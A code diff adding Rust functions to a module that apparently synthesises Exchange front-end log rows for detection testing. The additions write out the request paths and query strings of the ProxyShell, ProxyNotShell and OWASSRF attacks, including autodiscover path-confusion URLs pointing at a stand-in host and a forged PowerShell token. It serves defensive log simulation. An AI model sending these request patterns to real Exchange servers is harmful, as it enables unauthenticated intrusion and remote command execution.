@@ -1385,6 +1385,102 @@ pub mod attack {
             .collect()
     }
 
+    /// One request of a later campaign, as the front end logs it.
+    fn web_row(
+        rng: &mut SplitMix64,
+        protocol: Protocol,
+        ip: &str,
+        at: Time,
+        (method, stem, query): (&str, &str, &str),
+        user: &str,
+        status: u16,
+    ) -> Row {
+        let mut r = Row::default();
+        common(rng, protocol, at, &mut r);
+        r.url_host.push_str(site::EXTERNAL_HOST);
+        r.url_stem.push_str(stem);
+        r.url_query.push_str(query);
+        r.is_authenticated
+            .push_str(if user.is_empty() { "false" } else { "true" });
+        r.authenticated_user.push_str(user);
+        if !user.is_empty() {
+            r.authentication_type.push_str("Basic");
+        }
+        r.user_agent.push_str("python-requests/2.26.0");
+        r.client_ip_address.push_str(ip);
+        r.method.push_str(method);
+        set_status(&mut r, status);
+        sizes(rng, &mut r, 200, 4_000);
+        latencies(rng, &mut r, at, 80);
+        r
+    }
+
+    /// ProxyShell (CVE-2021-34473/34523/31207) as the HttpProxy logs show
+    /// it: in the Autodiscover log, the unauthenticated path confusion to
+    /// NSPI (the mailbox's LegacyDN) and to PowerShell with a forged
+    /// `X-Rps-CAT` token; in the PowerShell log, the token-bearing request.
+    /// Every row answered `status`.
+    pub fn proxyshell(
+        rng: &mut SplitMix64,
+        ip: &str,
+        at: Time,
+        status: u16,
+    ) -> Vec<(Protocol, Row)> {
+        let token = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhhZG1pbmlzdHJhdG9yQGNvbnRvc28uY29t";
+        let ad = "/autodiscover/autodiscover.json";
+        let steps = [
+            (Protocol::Autodiscover, ("GET", ad, "?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp".to_string())),
+            (Protocol::Autodiscover, ("POST", ad, format!("?@evil.corp/powershell/?X-Rps-CAT={token}&Email=autodiscover/autodiscover.json%3F@evil.corp"))),
+            (Protocol::PowerShell, ("POST", "/powershell", format!("?X-Rps-CAT={token}&Email=autodiscover/autodiscover.json%3F@evil.corp"))),
+        ];
+        let mut t = at;
+        steps
+            .into_iter()
+            .map(|(proto, (m, stem, q))| {
+                let r = web_row(rng, proto, ip, t, (m, stem, &q), "", status);
+                t = t.plus_ms(rng.between(700, 3_000) as i64);
+                (proto, r)
+            })
+            .collect()
+    }
+
+    /// ProxyNotShell (CVE-2022-41040/41082): the autodiscover.json path
+    /// confusion to PowerShell by a signed-in user (stolen credentials), in
+    /// the Autodiscover log.
+    pub fn proxynotshell(rng: &mut SplitMix64, ip: &str, at: Time, user: &str, status: u16) -> Row {
+        web_row(
+            rng,
+            Protocol::Autodiscover,
+            ip,
+            at,
+            (
+                "POST",
+                "/autodiscover/autodiscover.json",
+                "?@evil.corp/powershell/?&Email=autodiscover/autodiscover.json%3F@evil.corp&Protocol=XYZ&FooProtocol=Powershell",
+            ),
+            user,
+            status,
+        )
+    }
+
+    /// OWASSRF (CVE-2022-41080/41082): PowerShell reached through OWA by a
+    /// signed-in user, in the Owa log.
+    pub fn owassrf(rng: &mut SplitMix64, ip: &str, at: Time, user: &str, status: u16) -> Row {
+        web_row(
+            rng,
+            Protocol::Owa,
+            ip,
+            at,
+            (
+                "POST",
+                "/owa/mastermailbox%40outlook.com/powershell",
+                "?clientId=H&X-OWA-ExplicitLogonUser=owa/mastermailbox@outlook.com",
+            ),
+            user,
+            status,
+        )
+    }
+
     /// The form Microsoft's blog query adds and Test-ProxyLogon misses:
     /// the SSRF target in `BackEndCookie`
     /// (`Server~EX01.contoso.com:444/ecp/DDI/DDIService.svc/GetList~1942062522`),
